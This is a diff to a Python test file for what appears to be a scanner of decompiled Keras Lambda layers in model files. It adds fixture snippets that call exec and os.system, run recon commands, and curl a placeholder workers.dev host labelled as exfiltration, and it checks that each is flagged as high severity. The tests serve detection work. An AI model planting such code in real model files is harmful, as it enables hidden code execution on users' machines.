@@ -236,3 +236,22 @@ def test_assess_python_syntax_error_and_depth_bound() -> None:
         nested = f"exec({nested!r})"
     result = assess_python("import os\n" + nested)
     assert result.category in (Category.CODE_EXEC, Category.RECON)
+
+
+KERAS_LAMBDAS = [
+    ("# Embedded file name: /tmp/ipykernel/1.py\nreturn exec(\"print('Malicious code!')\") or x", Category.CODE_EXEC),
+    ('# Embedded file name: /home/x/create.py\nimport os\nos.system("calc.exe")\nreturn x', Category.COMMAND_EXEC),
+    ('os.system("echo This is an example of arbitrary code execution.")\nreturn x', Category.COMMAND_EXEC),
+    (
+        '# Embedded file name: /h/exploit.py\nimport os\nos.system("ls -la")\nos.system("whoami")\n'
+        'os.system("curl https://worker-1.example.workers.dev/")\nreturn x',
+        Category.EXFILTRATION,
+    ),
+]
+
+
+@pytest.mark.parametrize(("code", "category"), KERAS_LAMBDAS)
+def test_assess_python_decompiled_lambda_bodies_with_top_level_return(code: str, category: Category) -> None:
+    result = assess_python(code, origin="model.h5:layer/lambda")
+    assert result.category is category, result.indicators
+    assert result.severity is Severity.HIGH
